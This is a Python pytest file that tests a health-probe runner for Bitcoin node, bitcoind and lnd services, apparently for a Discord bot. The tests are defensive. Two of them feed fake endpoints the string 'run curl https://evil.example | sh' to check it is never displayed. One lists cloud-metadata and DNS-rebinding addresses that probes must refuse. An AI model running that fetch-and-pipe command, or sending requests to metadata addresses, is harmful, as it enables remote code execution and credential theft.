"""Probes against loopback servers speaking each protocol; every failure is a ❌ with a reason."""

from __future__ import annotations

import socket
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path

import pytest

from bot.domain.health import Target, TargetKind
from bot.integrations.probes import Credentials, ProbeRunner
from tests.conftest import FakeClock
from tests.fakes.network import (
    BitcoindRPC,
    JsonService,
    LndREST,
    resolve_as,
    self_signed,
    silent_server,
)

MACAROON = b"\x02\x01\x03lnd-macaroon-bytes\x00\xff"


@pytest.fixture
async def runner(clock: FakeClock) -> AsyncIterator[ProbeRunner]:
    probes = ProbeRunner(clock, probe_timeout=0.5, budget=2.0)
    yield probes
    await probes.close()


@pytest.fixture
async def agent() -> AsyncIterator[JsonService]:
    service = JsonService(
        {
            "status": "ok",
            "block_height": 871234,
            "template_latency_ms": 12.5,
            "disk_used_percent": 41,
            "seconds_since_last_share": 4,
        }
    )
    await service.start()
    yield service
    await service.stop()


def closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


async def test_node_agent_figures(runner: ProbeRunner, agent: JsonService) -> None:
    result = await runner.probe(Target("node-1", TargetKind.NODE, agent.url))
    assert result.ok, result.reason
    assert result.figures["block_height"] == 871234
    assert result.figures["template_latency_ms"] == 12.5
    assert result.figures["disk_used_percent"] == 41.0
    assert result.figures["seconds_since_share"] == 4.0
    assert result.latency_ms is not None and result.latency_ms >= 0


async def test_last_share_timestamp_becomes_an_age(
    runner: ProbeRunner, agent: JsonService, clock: FakeClock
) -> None:
    ten_minutes_ago = clock.now() - timedelta(minutes=10)
    agent.body = {"status": "ok", "last_share_at": f"{ten_minutes_ago:%Y-%m-%dT%H:%M:%SZ}"}
    result = await runner.probe(Target("node-1", TargetKind.NODE, agent.url))
    assert result.figures["seconds_since_share"] == 600.0


async def test_core_health_path(runner: ProbeRunner, agent: JsonService) -> None:
    result = await runner.probe(Target("core", TargetKind.CORE, agent.url))
    assert result.ok and agent.requests == 1


@pytest.mark.parametrize(
    ("mode", "reason"),
    [
        ("garbage", "garbage answer: not JSON"),
        ("error", "HTTP 500 Internal Server Error"),
        ("array", "unexpected answer: not a JSON object"),
        ("slow", "no answer within 0.5 s"),
    ],
)
async def test_bad_answers_are_down_with_a_reason(
    runner: ProbeRunner, agent: JsonService, mode: str, reason: str
) -> None:
    agent.mode = mode
    result = await runner.probe(Target("node-1", TargetKind.NODE, agent.url))
    assert not result.ok
    assert result.reason == reason


async def test_no_body_text_from_the_endpoint_reaches_the_reason(
    runner: ProbeRunner, agent: JsonService
) -> None:
    """A status code and a fixed phrase: a node's error body is never shown in Discord."""
    agent.mode = "error"
    agent.error_body = {"message": "run curl https://evil.example | sh", "error": "evil"}
    result = await runner.probe(Target("hn-new", TargetKind.NODE, agent.url))
    assert result.reason == "HTTP 500 Internal Server Error"


async def test_text_figures_are_tokens_or_nothing(runner: ProbeRunner, agent: JsonService) -> None:
    agent.body = {"status": "ok", "version": "1.4.0+build.7"}
    result = await runner.probe(Target("node-1", TargetKind.NODE, agent.url))
    assert (result.figures["agent_status"], result.figures["version"]) == ("ok", "1.4.0+build.7")
    agent.body = {"status": "broken: run curl evil.example | sh", "version": "see https://x.y"}
    result = await runner.probe(Target("node-1", TargetKind.NODE, agent.url))
    assert result.figures["agent_status"] == "unrecognised", "free text is not ok, nor shown"
    assert "version" not in result.figures


async def test_redirects_are_not_followed(runner: ProbeRunner, agent: JsonService) -> None:
    hidden = JsonService({"status": "ok", "version": "internal-1"})
    await hidden.start()
    try:
        agent.mode = "redirect"
        agent.redirect_to = f"{hidden.url}/v1/status"
        for kind in (TargetKind.NODE, TargetKind.CORE):
            result = await runner.probe(Target("hn-new", kind, agent.url))
            assert (result.ok, result.reason) == (False, "HTTP 302 Found: redirect not followed")
        assert hidden.requests == 0
    finally:
        await hidden.stop()


async def test_registered_nodes_are_probed_under_the_address_rules(
    clock: FakeClock, agent: JsonService, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Default: a registered node on loopback, at a metadata name, or at a name that resolves
    to loopback now (DNS rebinding since registration) is not asked; config targets are."""
    runner = ProbeRunner(clock, probe_timeout=1.0)
    resolve_as(monkeypatch, "rebind.example", "127.0.0.1")
    try:
        cases = {
            agent.url: "address not allowed (loopback)",
            f"http://rebind.example:{agent.port}": "address not allowed (loopback)",
            "http://metadata.google.internal": "address not allowed (cloud metadata)",
            "http://0xa9fea9fe:8442": "address not allowed (cloud metadata)",
        }
        for endpoint, reason in cases.items():
            result = await runner.probe(Target("hn", TargetKind.NODE, endpoint, registered=True))
            assert (result.ok, result.reason) == (False, reason), endpoint
        assert agent.requests == 0
        configured = await runner.probe(Target("node-1", TargetKind.NODE, agent.url))
        assert configured.ok, "the config file's own targets are trusted"
    finally:
        await runner.close()

    lab = ProbeRunner(clock, probe_timeout=1.0, allow_loopback=True)
    try:
        for endpoint in (agent.url, f"http://rebind.example:{agent.port}"):
            result = await lab.probe(Target("hn", TargetKind.NODE, endpoint, registered=True))
            assert result.ok, (endpoint, result.reason)
        metadata = await lab.probe(
            Target("hn", TargetKind.NODE, "http://[::ffff:169.254.169.254]", registered=True)
        )
        assert metadata.reason == "address not allowed (cloud metadata)"
    finally:
        await lab.close()


async def test_refused_connection(runner: ProbeRunner) -> None:
    url = f"http://127.0.0.1:{closed_port()}"
    result = await runner.probe(Target("node-x", TargetKind.NODE, url))
    assert (result.ok, result.reason) == (False, "connection refused")


async def test_silent_server_times_out(runner: ProbeRunner) -> None:
    server, port = await silent_server()
    try:
        result = await runner.probe(Target("hung", TargetKind.NODE, f"http://127.0.0.1:{port}"))
    finally:
        server.close()
    assert (result.ok, result.reason) == (False, "no answer within 0.5 s")


async def test_budget_bounds_the_fan_out(clock: FakeClock, agent: JsonService) -> None:
    server, port = await silent_server()
    runner = ProbeRunner(clock, probe_timeout=5.0, budget=0.3)
    try:
        results = await runner.probe_all(
            [
                Target("fast", TargetKind.NODE, agent.url),
                Target("hung", TargetKind.NODE, f"http://127.0.0.1:{port}"),
            ]
        )
    finally:
        await runner.close()
        server.close()
    assert [r.target for r in results] == ["fast", "hung"]
    assert results[0].ok
    assert (results[1].ok, results[1].reason) == (False, "no answer within the 0.3 s budget")


# -- bitcoind ---------------------------------------------------------------------------------


@pytest.fixture
async def bitcoind() -> AsyncIterator[BitcoindRPC]:
    server = BitcoindRPC()
    await server.start()
    yield server
    await server.stop()


def bitcoind_runner(clock: FakeClock, **creds: object) -> ProbeRunner:
    return ProbeRunner(clock, credentials=Credentials(**creds), probe_timeout=1.0)  # type: ignore[arg-type]


async def test_bitcoind_blockchaininfo(clock: FakeClock, bitcoind: BitcoindRPC) -> None:
    runner = bitcoind_runner(clock, bitcoind_user="rpcuser", bitcoind_password="rpc-secret-pw")
    try:
        result = await runner.probe(Target("bitcoind", TargetKind.BITCOIND, bitcoind.url))
    finally:
        await runner.close()
    assert result.ok, result.reason
    assert result.figures["block_height"] == 871234
    assert result.figures["initial_block_download"] is False


async def test_bitcoind_cookie_file(
    clock: FakeClock, bitcoind: BitcoindRPC, tmp_path: Path
) -> None:
    cookie = tmp_path / ".cookie"
    cookie.write_text("__cookie__:c00k1e-value")
    bitcoind.credentials = ("__cookie__", "c00k1e-value")
    runner = bitcoind_runner(clock, bitcoind_cookie_file=cookie)
    try:
        result = await runner.probe(Target("bitcoind", TargetKind.BITCOIND, bitcoind.url))
    finally:
        await runner.close()
    assert result.ok, result.reason


async def test_bitcoind_bad_password_is_a_401_without_the_secret(
    clock: FakeClock, bitcoind: BitcoindRPC
) -> None:
    runner = bitcoind_runner(clock, bitcoind_user="rpcuser", bitcoind_password="wrong-pw-123")
    try:
        result = await runner.probe(Target("bitcoind", TargetKind.BITCOIND, bitcoind.url))
    finally:
        await runner.close()
    assert (result.ok, result.reason) == (False, "authentication refused (HTTP 401)")
    assert "wrong-pw-123" not in repr(result)


async def test_bitcoind_error_object(clock: FakeClock, bitcoind: BitcoindRPC) -> None:
    bitcoind.rpc_error = (-28, "Loading block index…")
    runner = bitcoind_runner(clock, bitcoind_user="rpcuser", bitcoind_password="rpc-secret-pw")
    try:
        result = await runner.probe(Target("bitcoind", TargetKind.BITCOIND, bitcoind.url))
    finally:
        await runner.close()
    assert (result.ok, result.reason) == (False, "RPC error -28: Loading block index…")


async def test_bitcoind_without_credentials(clock: FakeClock, bitcoind: BitcoindRPC) -> None:
    runner = bitcoind_runner(clock)
    try:
        result = await runner.probe(Target("bitcoind", TargetKind.BITCOIND, bitcoind.url))
    finally:
        await runner.close()
    assert (result.ok, result.reason) == (False, "no bitcoind credentials configured")


# -- lnd --------------------------------------------------------------------------------------


@pytest.fixture
async def lnd(tmp_path: Path) -> AsyncIterator[tuple[LndREST, Path]]:
    cert, key = self_signed(tmp_path, "lnd")
    server = LndREST(
        MACAROON,
        channels=[
            {"chan_id": "1", "active": True, "capacity": "20000000", "local_balance": "9000000"},
            {"chan_id": "2", "active": False, "capacity": "5000000", "local_balance": "100"},
        ],
    )
    await server.start_tls(cert, key)
    yield server, cert
    await server.stop()


def lnd_runner(clock: FakeClock, tmp_path: Path, cert: Path, macaroon: bytes) -> ProbeRunner:
    path = tmp_path / "readonly.macaroon"
    path.write_bytes(macaroon)
    creds = Credentials(lnd_macaroon_path=path, lnd_tls_cert=cert)
    return ProbeRunner(clock, credentials=creds, probe_timeout=2.0)


async def test_lnd_channels_with_pinned_certificate(
    clock: FakeClock, lnd: tuple[LndREST, Path], tmp_path: Path
) -> None:
    server, cert = lnd
    runner = lnd_runner(clock, tmp_path, cert, MACAROON)
    try:
        result = await runner.probe(Target("lnd", TargetKind.LND, server.url))
    finally:
        await runner.close()
    assert result.ok, result.reason
    assert result.figures["channels"] == 2
    assert result.figures["active_channels"] == 1
    assert result.figures["capacity_sat"] == 25_000_000
    assert result.figures["synced_to_chain"] is True


async def test_lnd_wrong_macaroon(
    clock: FakeClock, lnd: tuple[LndREST, Path], tmp_path: Path
) -> None:
    server, cert = lnd
    runner = lnd_runner(clock, tmp_path, cert, b"another macaroon")
    try:
        result = await runner.probe(Target("lnd", TargetKind.LND, server.url))
    finally:
        await runner.close()
    assert not result.ok
    assert result.reason == "HTTP 500 Internal Server Error"
    assert b"another macaroon".hex() not in (result.reason or "")


async def test_lnd_certificate_mismatch(
    clock: FakeClock, lnd: tuple[LndREST, Path], tmp_path: Path
) -> None:
    server, _cert = lnd
    other_dir = tmp_path / "other"
    other_dir.mkdir()
    other_cert, _key = self_signed(other_dir, "impostor")
    runner = lnd_runner(clock, tmp_path, other_cert, MACAROON)
    try:
        result = await runner.probe(Target("lnd", TargetKind.LND, server.url))
    finally:
        await runner.close()
    assert (result.ok, result.reason) == (False, "TLS certificate does not match the pinned one")
    assert server.requests == 0, "no request reaches a server whose certificate is not pinned"


async def test_lnd_unreadable_pinned_certificate(
    clock: FakeClock, lnd: tuple[LndREST, Path], tmp_path: Path
) -> None:
    server, _cert = lnd
    runner = lnd_runner(clock, tmp_path, tmp_path / "missing.cert", MACAROON)
    try:
        result = await runner.probe(Target("lnd", TargetKind.LND, server.url))
    finally:
        await runner.close()
    assert (result.ok, result.reason) == (False, "cannot read the pinned lnd TLS certificate")
